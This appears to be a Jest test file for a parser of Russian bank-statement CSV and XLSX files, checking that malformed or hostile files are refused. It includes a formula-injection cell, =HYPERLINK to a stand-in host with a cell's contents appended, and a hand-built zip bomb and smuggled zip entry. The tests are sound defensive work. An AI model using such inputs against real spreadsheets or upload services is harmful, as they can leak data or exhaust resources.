import fs from 'node:fs';
import os from 'node:os';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { bytesSource, collectStatements, parseBankStatement, readBankStatement, type ColumnProfile } from '../../../adapters/bank-statements';
import { refusal, statement } from './fixture';
import { csvProfile, csvText, renderXlsx, xlsxProfile } from './render';

const csv = (rows: string[][], delimiter = ';') => Buffer.from(Papa.unparse(rows, { delimiter, newline: '\r\n' }), 'utf8');
const simple: ColumnProfile = {
  delimiter: ';',
  headerRow: 1,
  dateFormat: 'DD.MM.YYYY',
  decimalSeparator: ',',
  columns: { date: 'Дата', amount: 'Сумма', purpose: 'Назначение', counterpartyName: 'Контрагент' },
  statement: { accountNumber: { value: '20208000900123456001' }, openingBalance: { label: 'Начальный остаток' }, closingBalance: { label: 'Конечный остаток' } },
};
const HEAD = ['Дата', 'Сумма', 'Назначение', 'Контрагент'];
const FOOT = [[], ['Начальный остаток', '0,00'], ['Конечный остаток', '0,00']];

describe('CSV and XLSX: formulas stay text, never evaluated', () => {
  test('a CSV whose text cells start with =, +, - or @ keeps them as they are', async () => {
    const rows = [HEAD, ['02.11.2026', '100,00', '=HYPERLINK("http://x.example/?"&A1,"Оплата")', '+998901234567'], ['02.11.2026', '-100,00', '@SUM(A1:A9)', '-Сторно'], ...FOOT];
    const [read] = await parseBankStatement(csv(rows), { profile: simple });
    expect(read!.lines.map((l) => [l.direction, l.purpose, l.counterpartyName])).toEqual([
      ['IN', '=HYPERLINK("http://x.example/?"&A1,"Оплата")', '+998901234567'],
      ['OUT', '@SUM(A1:A9)', '-Сторно'],
    ]);
  });

  test('a formula in a CSV amount column is refused, not computed', async () => {
    const rows = [HEAD, ['02.11.2026', '=2+5', 'Оплата', ''], ...FOOT];
    expect(await refusal(csv(rows), { profile: simple })).toMatchObject({ code: 'malformed', line: 2, message: expect.stringContaining('the amount "=2+5" is not an amount') });
  });

  test('an XLSX formula cell is its formula text in a text column, and refused in an amount column, whatever result it cached', async () => {
    const s = { ...statement, lines: statement.lines.slice(0, 1) };
    const withFormula = await renderXlsx(s, (sheet) => {
      sheet.getCell('J5').value = { formula: 'CONCATENATE("Оплата ";B5)', result: 'Оплата 154' };
    });
    const [read] = await parseBankStatement(withFormula, { profile: xlsxProfile });
    expect(read!.lines[0]!.purpose).toBe('=CONCATENATE("Оплата ";B5)');

    const amountFormula = await renderXlsx(s, (sheet) => {
      sheet.getCell('D5').value = { formula: '4000000+500000', result: 4500000 };
    });
    expect(await refusal(amountFormula, { profile: xlsxProfile })).toMatchObject({ code: 'malformed', line: 5, message: expect.stringMatching(/a formula is never evaluated/) });
  });
});

describe('CSV and XLSX: the column profile', () => {
  test('a signed amount column gives the direction; digit groups with spaces are read', async () => {
    const rows = [HEAD, ['02.11.2026 10:15', '1 250 000,50', 'Поступление', 'ООО А'], ['03.11.2026', '-250\u00a0000,50', 'Списание', 'ООО Б'], [], ['Начальный остаток', '0,00'], ['Конечный остаток', '1 000 000,00']];
    const [read] = await parseBankStatement(csv(rows), { profile: simple });
    expect(read).toEqual({
      format: 'csv',
      accountNumber: '20208000900123456001',
      openingBalance: '0.00',
      closingBalance: '1000000.00',
      lines: [
        { date: '2026-11-02', direction: 'IN', amount: '1250000.50', purpose: 'Поступление', counterpartyName: 'ООО А' },
        { date: '2026-11-03', direction: 'OUT', amount: '250000.50', purpose: 'Списание', counterpartyName: 'ООО Б' },
      ],
    });
  });

  test('a direction column with the bank\'s own words, columns by number, no header row, a comma-separated file', async () => {
    const profile: ColumnProfile = {
      headerRow: 0,
      dateFormat: 'YYYY-MM-DD',
      decimalSeparator: '.',
      columns: { date: 1, direction: 2, amount: 3, purpose: 4 },
      directionValues: { in: ['Приход'], out: ['Расход'] },
      statement: { accountNumber: { value: '20208000900123456001' }, openingBalance: { row: 4, column: 2 }, closingBalance: { row: 5, column: 2 } },
    };
    const rows = [['2026-11-02', 'приход', '10.00', 'Оплата, по счёту'], ['2026-11-02', 'РАСХОД', '4.00', 'Комиссия'], [], ['opening', '5.00'], ['closing', '11.00']];
    const [read] = await parseBankStatement(csv(rows, ','), { profile });
    expect(read!.lines.map((l) => [l.direction, l.amount, l.purpose])).toEqual([
      ['IN', '10.00', 'Оплата, по счёту'],
      ['OUT', '4.00', 'Комиссия'],
    ]);
    expect(read).toMatchObject({ openingBalance: '5.00', closingBalance: '11.00' });
    const unknown = [['2026-11-02', 'перевод', '10.00', 'x'], [], ['opening', '5.00'], ['closing', '11.00']];
    expect(await refusal(csv(unknown, ','), { profile })).toMatchObject({ code: 'malformed', line: 1 });
  });

  test('a Windows-1251 CSV is read when the profile says so, and a UTF-8 one under that profile is refused', async () => {
    const profile = { ...csvProfile, encoding: 'windows-1251' as const };
    const [read] = await parseBankStatement(iconv.encode(csvText(statement), 'windows-1251'), { profile });
    expect(read!.lines).toEqual(statement.lines);
    expect(await refusal(Buffer.from(csvText(statement), 'utf8'), { profile })).toMatchObject({ code: 'encoding', line: 1 });
  });

  test('a header the profile names but the file lacks, a row with both credit and debit, a date in another form: each refused with its row', async () => {
    expect(await refusal(csv([['Дата', 'Сумма', 'Описание'], ...FOOT]), { profile: simple })).toMatchObject({ code: 'malformed', line: 1, message: 'line 1: the header row has no column "Назначение"' });
    const lines = csvText(statement).split('\r\n');
    lines[4] = lines[4]!.replace(/;;/, ';1,00;');
    expect(await refusal(Buffer.from(lines.join('\r\n')), { profile: csvProfile })).toMatchObject({ code: 'malformed', line: 5, message: 'line 5: the row has both a credit and a debit' });
    expect(await refusal(csv([HEAD, ['2026-11-02', '1,00', 'x', ''], ...FOOT]), { profile: simple })).toMatchObject({ code: 'malformed', line: 2 });
  });

  test('a CSV cut inside a quoted field is refused as truncated', async () => {
    const text = csvText(statement);
    const cut = text.slice(0, text.indexOf('Оплата по счёту-фактуре') + 10);
    const quoted = cut.replace(/;([^;]*)$/, ';"$1');
    expect(await refusal(Buffer.from(quoted), { profile: csvProfile })).toMatchObject({ code: 'truncated' });
  });

  test('reading an XLSX leaves no temporary file behind, whether the sheet is read whole or refused at the line limit', async () => {
    // ExcelJS parks a worksheet stored before the shared strings in a temporary file of this process.
    // Files already there (another test file of this worker may still be removing its own) are not counted.
    const before = new Set(fs.readdirSync(os.tmpdir()));
    const parked = () => fs.readdirSync(os.tmpdir()).filter((name) => name.startsWith(`tmp-${process.pid}-`) && !before.has(name));
    const bytes = await renderXlsx(statement);
    await parseBankStatement(bytes, { profile: xlsxProfile });
    // Past the header, the line limit and 200 rows more the sheet is left unread.
    const long = await renderXlsx(statement, (sheet) => {
      for (let i = 0; i < 300; i += 1) sheet.addRow([`примечание ${i}`]);
    });
    expect(await refusal(long, { profile: xlsxProfile, maxLines: 1 })).toMatchObject({ code: 'too-many-lines' });
    await refusal(bytes, { profile: { ...xlsxProfile, columns: { ...xlsxProfile.columns, purpose: 'Нет такой' } } });
    // The file is removed asynchronously once the reader has moved past it.
    for (let wait = 0; wait < 40 && parked().length > 0; wait += 1) await new Promise((resolve) => setTimeout(resolve, 50));
    expect(parked()).toEqual([]);
  });

  test('a file read in chunks of any size (1, 7, 4096 bytes) reads as the file held whole: a record over two lines, a zip cut anywhere', async () => {
    const [first, ...rest] = statement.lines;
    const twoLines = { ...statement, lines: [{ ...first!, purpose: 'Оплата по счёту-фактуре № 17\r\nза поставленный товар' }, ...rest] };
    const csvFile = iconv.encode(csvText(twoLines), 'windows-1251');
    // ExcelJS writes its sheet before the shared strings (the sheet is parked in a file); the same sheet after
    // them, with a Cyrillic string of its own, is read straight from the zip.
    const xlsxFile = await renderXlsx(statement);
    const parts = unzip(xlsxFile);
    const sheet = parts.find((part) => part.name === 'xl/worksheets/sheet1.xml')!;
    sheet.data = Buffer.from(sheet.data.toString().replace(/<c r="J5"([^>]*) t="s"><v>[0-9]+<\/v><\/c>/, '<c r="J5"$1 t="inlineStr"><is><t>Оплата за ноябрь</t></is></c>'));
    const sheetLast = zip([...parts.filter((part) => part !== sheet), sheet]);
    const files: [Uint8Array, ColumnProfile][] = [
      [csvFile, { ...csvProfile, encoding: 'windows-1251' }],
      [xlsxFile, xlsxProfile],
      [sheetLast, xlsxProfile],
    ];
    for (const [bytes, profile] of files) {
      const whole = await parseBankStatement(bytes, { profile });
      expect(whole[0]!.lines).toHaveLength(statement.lines.length);
      if (bytes === sheetLast) expect(whole[0]!.lines[0]!.purpose).toBe('Оплата за ноябрь');
      for (const size of [1, 7, 4096]) {
        expect(await collectStatements(readBankStatement(bytesSource(bytes, size), { size: bytes.byteLength, profile }))).toEqual(whole);
      }
    }
    // The line break inside the quoted field is kept, without the "\r" the file's line ends carry.
    const [read] = await parseBankStatement(csvFile, { profile: { ...csvProfile, encoding: 'windows-1251' } });
    expect(read!.lines[0]!.purpose).toBe('Оплата по счёту-фактуре № 17\nза поставленный товар');
  });

  test('a table longer than the line limit is refused, in CSV and in XLSX', async () => {
    expect(await refusal(Buffer.from(csvText(statement)), { profile: csvProfile, maxLines: 3 })).toMatchObject({ code: 'too-many-lines' });
    expect(await refusal(await renderXlsx(statement), { profile: xlsxProfile, maxLines: 3 })).toMatchObject({ code: 'too-many-lines' });
    const [read] = await parseBankStatement(await renderXlsx(statement), { profile: xlsxProfile, maxLines: 4 });
    expect(read!.lines).toHaveLength(4);
  });
});

/** A zip of stored or deflated entries, written by hand so it can hold what no spreadsheet program writes. */
function zip(entries: { name: string; data: Buffer; unlisted?: boolean }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, unlisted } of entries) {
    const packed = deflateRawSync(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(Buffer.byteLength(name), 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(Buffer.byteLength(name), 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, Buffer.from(name), packed);
    if (!unlisted) centrals.push(central, Buffer.from(name));
    offset += 30 + Buffer.byteLength(name) + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  const listed = entries.filter((e) => !e.unlisted).length;
  end.writeUInt16LE(listed, 8);
  end.writeUInt16LE(listed, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** The entries of a zip, read through its central directory (a spreadsheet writer puts the sizes after the data). */
function unzip(bytes: Buffer): { name: string; data: Buffer }[] {
  const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = bytes.readUInt16LE(end + 10);
  let at = bytes.readUInt32LE(end + 16);
  const entries: { name: string; data: Buffer }[] = [];
  for (let i = 0; i < count; i += 1) {
    const method = bytes.readUInt16LE(at + 10);
    const size = bytes.readUInt32LE(at + 20);
    const nameLength = bytes.readUInt16LE(at + 28);
    const local = bytes.readUInt32LE(at + 42);
    const name = bytes.subarray(at + 46, at + 46 + nameLength).toString();
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const packed = bytes.subarray(start, start + size);
    entries.push({ name, data: method === 8 ? inflateRawSync(packed) : Buffer.from(packed) });
    at += 46 + nameLength + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return entries;
}

describe('XLSX: the zip is bounded before the sheet is read', () => {
  test('an XLSX that inflates past 100 MiB is refused as too large, though it is small', async () => {
    const bomb = zip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(101 * 1024 * 1024, 0x20) }]);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await refusal(bomb, { profile: xlsxProfile })).toMatchObject({ code: 'too-large' });
  });

  test('an XLSX whose workbook part comes after its sheet and shared strings is read like any other', async () => {
    // The zip's order is the writer's choice; ExcelJS's streaming reader assumed the workbook part came first.
    const bytes = await renderXlsx(statement);
    const entries = unzip(bytes);
    // The relationships and shared strings first, then the sheet (read at once, not parked, so before the
    // styles that say which numbers are dates), the styles, the workbook last.
    const order = ['xl/_rels/workbook.xml.rels', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml', 'xl/styles.xml', 'xl/workbook.xml'];
    const rank = (name: string) => (order.includes(name) ? order.indexOf(name) + 1 : 0);
    const workbookLast = zip([...entries].sort((a, b) => rank(a.name) - rank(b.name)));
    expect(unzip(workbookLast).at(-1)!.name).toBe('xl/workbook.xml');
    const [expected] = await parseBankStatement(bytes, { profile: xlsxProfile });
    const [read] = await parseBankStatement(workbookLast, { profile: xlsxProfile });
    expect(read).toEqual(expected);
    expect(read!.lines).toHaveLength(statement.lines.length);
  });

  test('an XLSX cut short, or with bytes the zip directory does not list, is refused', async () => {
    const good = await renderXlsx(statement);
    expect(await refusal(good.subarray(0, good.length - 100), { profile: xlsxProfile })).toMatchObject({ code: 'truncated' });
    // A streaming unzip reads every local entry, listed or not: an unlisted one would escape the bound.
    const smuggled = zip([
      { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(1024, 0x20), unlisted: true },
    ]);
    expect(await refusal(smuggled, { profile: xlsxProfile })).toMatchObject({ code: 'malformed', message: 'the XLSX file has data the zip directory does not list' });
  });
});
